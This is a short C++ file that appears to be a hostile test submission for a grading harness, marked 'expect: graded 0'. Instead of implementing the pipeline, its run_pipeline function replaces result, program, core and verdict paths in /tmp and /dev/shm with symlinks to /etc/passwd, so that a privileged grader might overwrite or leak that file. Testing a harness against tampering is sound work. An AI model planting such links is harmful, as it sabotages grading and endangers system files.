// hostile: leaves links where somebody might write, or read, as root
// expect: graded 0
#include "pipeline.hpp"

#include <unistd.h>

#include <initializer_list>

int split(char** words, Command* commands) {
  commands[0].argv = words;
  return 1;
}

int run_pipeline(const Command*, int) {
  for (const char* name : {"/tmp/results.json", "/tmp/program", "/tmp/core", "/dev/shm/verdict"}) {
    unlink(name);
    if (symlink("/etc/passwd", name) == -1) continue;
  }
  return 0;
}
